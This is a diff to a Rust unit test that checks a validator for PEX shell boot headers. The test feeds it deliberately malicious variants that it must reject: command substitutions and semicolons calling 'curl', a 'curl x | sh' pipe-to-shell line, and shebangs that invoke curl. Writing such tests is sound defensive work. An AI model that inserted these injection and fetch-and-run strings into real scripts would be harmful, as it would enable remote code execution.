@@ -789,17 +789,20 @@ mod tests {
         let source = concat!(
             "def f():\n    return dedent(\n        \"\"\"\\\n",
             "        # INSTALLED_PEX\n        VENV=\"{venv}\"\n        PEX=\"{pex}\"\n",
+            "        ROOT=\"{pex_root}\"\n",
             "        \"\"\"\n    ).format(venv=v, pex=p)\n"
         );
         fs::write(venv.path().join("pex/sh_boot.py"), source).unwrap();
         let check = |header: &str| check_header(venv.path(), header.as_bytes(), None);
-        let good = "#!/bin/sh\n# INSTALLED_PEX\nVENV=\"1\"\nPEX=\"$0\"\n";
+        let good = "#!/bin/sh\n# INSTALLED_PEX\nVENV=\"1\"\nPEX=\"$0\"\nROOT=\"~/.pex\"\n";
         check(good).unwrap();
         check("").unwrap();
         check("#!/usr/bin/env python3\n").unwrap();
         for evil in [
             good.replace("\"1\"", "\"1\"; curl x"),
             good.replace("$0", "$(curl x)"),
+            good.replace("~/.pex", "$(curl x)"),
+            good.replace("~/.pex", ""),
             format!("{good}curl x | sh\n"),
             "#!curl evil\n".to_string(),
             "#!/bin/sh;curl evil|sh\n".to_string(),
